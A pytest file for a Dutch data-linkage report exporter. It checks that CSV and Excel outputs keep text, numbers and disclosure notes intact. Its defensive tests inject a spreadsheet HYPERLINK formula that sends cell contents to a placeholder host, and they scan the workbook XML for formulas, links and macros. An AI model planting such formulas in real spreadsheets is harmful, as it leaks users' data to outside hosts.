"""CSV and workbook, read back by programs that are not ours: text stays text, figures are numbers, marks are words."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

import samples
from linkage.disclosure.protect import Figure
from linkage.disclosure.release import Cell
from linkage.protocol.base import Text
from linkage.report.lang import LANGUAGES, Lang
from linkage.report.planned import OwnRows
from linkage.report.result import ReleaseFile, Report
from linkage.report.sheets import as_csv, as_xlsx
from linkage.report.words import word

P = samples.protocol()
OWN = OwnRows("2026-11-02", {"rows": 1210, "included": 1012, "consent: withdrawn": 18})
NAMES = ["overlap", "complement", "union", "partition", "moves"]
EVERY = [(persons, name) for persons in (50, 5000) for name in NAMES]


def report(name: str = "overlap", persons: int = 5000, lang: Lang = "nl", own: OwnRows | None = OWN) -> Report:
    release = samples.every(persons)[name]
    return Report(P, release, lang, own=own, file=ReleaseFile(f"results/{name}.json", release.digest))


def by_openpyxl(data: bytes) -> dict[str, list[list[Any]]]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {sheet.title: [[cell.value for cell in row] for row in sheet.iter_rows()] for sheet in book}


def by_calamine(data: bytes) -> dict[str, list[list[Any]]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}


def plain(rows: list[list[Any]]) -> list[list[Any]]:
    """Empty cells and rows at the ends left out."""
    kept = [[("" if value is None else value) for value in row] for row in rows]
    for row in kept:
        while row and row[-1] == "":
            row.pop()
    return kept


@pytest.mark.parametrize(("persons", "name"), EVERY)
@pytest.mark.parametrize("lang", LANGUAGES)
def test_a_workbook_reads_back_the_same_in_two_programs(persons: int, name: str, lang: Lang) -> None:
    one = report(name, persons, lang)
    data = as_xlsx(one)
    ours, theirs = by_openpyxl(data), by_calamine(data)
    assert list(ours) == list(theirs)
    for sheet in ours:
        assert plain(ours[sheet]) == plain(theirs[sheet])
    table = ours[word("sheet_table", lang)]
    assert table[0] == one.headings
    for row, line in zip(table[1:], one.lines, strict=False):
        names = [name or None for name in line.names]
        figures = [one.figures.shown(f) if f.value is None else f.value for f in line.figures]
        share = [line.share] if one.figures.divided else []
        assert row[: len(one.headings)] == [*names, *figures, *share]
        assert all(type(value) is type(figure) for value, figure in zip(row[len(names) :], figures, strict=False))
    assert ours[word("sheet_answer", lang)][3] == [one.answer]


def cells(data: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_categories_and_marks_are_text_and_stay_so_when_edited() -> None:
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx(report("partition"))))
    level, _, persons, share = next(book[word("sheet_table", "nl")].iter_rows(min_row=2))
    assert (level.value, level.data_type, level.number_format, level.quotePrefix) == ("1", "s", "@", True)
    assert (persons.data_type, persons.number_format) == ("n", "0")
    assert (share.data_type, share.number_format) == ("n", "0%")


def test_the_sheets_say_what_is_rounded_and_hidden_and_whose_rows_stay_here() -> None:
    one = report("partition", 50)
    sheets = by_openpyxl(as_xlsx(one))
    table = [value for row in sheets[word("sheet_table", "nl")] for value in row]
    assert all(note in table for note in one.notes if note not in one.expected)
    assert "<10 of verborgen" in table
    own = sheets[word("sheet_own", "nl")]
    assert "blijft hier" in word("sheet_own", "nl")
    assert ["toestemming: ingetrokken", 18] in own
    assert [word("stays_here", "nl"), None] in own
    assert word("sheet_own", "nl") not in by_openpyxl(as_xlsx(replace(one, own=None)))
    digests = [value for row in sheets[word("sheet_check", "nl")] for value in row]
    assert set(one.digests.values()) <= set(digests)
    assert [list(row) for row in sheets[word("sheet_bases", "nl")][1:]] == one.bases


ATTACK = '=HYPERLINK("http://x.example?"&A1;"klik")'
SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n"]


def hostile(sign: str = "=") -> Report:
    """Formulas for a title, labels, names and laws."""
    attack = sign + ATTACK[1:]
    text = Text(nl=attack, en=attack)
    output = samples.output("partition")
    splits = tuple(
        split.model_copy(
            update={"label": text, "sought": tuple(one.model_copy(update={"label": text}) for one in split.sought)}
        )
        for split in output.splits  # type: ignore[attr-defined]
    )
    fields = tuple(field.model_copy(update={"label": text}) for field in P.fields)
    parties = tuple(
        party.model_copy(
            update={
                "name": attack,
                "discloses": tuple(
                    d.model_copy(update={"basis": d.basis.model_copy(update={"law": attack, "decided_by": attack})})
                    for d in party.discloses
                ),
            }
        )
        for party in P.parties
    )
    outputs = (output.model_copy(update={"title": text, "splits": splits}),)
    of = P.model_copy(update={"outputs": outputs, "parties": parties, "fields": fields})
    own = OwnRows("2026-11-02", {"rows": 10, f"{attack}: missing": 2})
    return Report(of, samples.every(5000)["partition"], "nl", own=own)


@pytest.mark.parametrize("sign", SIGNS)
def test_a_workbook_holds_no_formula_and_no_link(sign: str) -> None:
    data = as_xlsx(hostile(sign))
    assert all(cell.data_type in ("s", "n") for cell in cells(data))
    assert all(cell.hyperlink is None for cell in cells(data))
    read = "_x000D_" if sign == "\r" else sign  # as openpyxl shows it
    attacked = [cell for cell in cells(data) if str(cell.value).startswith(read)]
    assert len(attacked) > 5
    assert all(cell.quotePrefix for cell in attacked)
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        xml = "".join(book.read(name).decode() for name in book.namelist())
    assert not re.search(r"<f[ >]|<hyperlink|externalLink|vbaProject", xml)


@pytest.mark.parametrize("sign", SIGNS)
def test_csv_holds_no_formula(sign: str) -> None:
    rows = list(csv.reader(io.StringIO(as_csv(hostile(sign))[1:]), delimiter=";"))
    assert not [value for row in rows for value in row if value.startswith(tuple(SIGNS))]
    assert rows[0][0] == f"'{sign}{ATTACK[1:]}"


def test_no_temporary_file_is_made(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / "not there"))
    assert as_xlsx(report())


@pytest.mark.parametrize(("persons", "name"), EVERY)
def test_csv_opens_in_excel_with_dutch_settings(persons: int, name: str) -> None:
    one = report(name, persons)
    text = as_csv(one)
    assert text.startswith("\ufeff")
    assert text.endswith("\r\n")
    assert "\n" not in text.replace("\r\n", "")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert rows[0] == one.headings
    for row, line in zip(rows[1:], one.lines, strict=False):
        share = [line.percent] if one.figures.divided else []
        assert row == [*line.names, *map(one.figures.shown, line.figures), *share]
    assert [one.answer] in rows


def test_csv_quotes_what_holds_a_delimiter() -> None:
    odd = Cell({"level": 'a;"b"\nc', "school-year": "x"}, Figure(60, "shown"), Figure(15, "shown"))
    release = replace(samples.every(5000)["overlap"], cells=(odd,))
    assert as_csv(Report(P, release, "en")).split("\r\n")[1] == '"a;""b""\nc";x;60;15;25%'
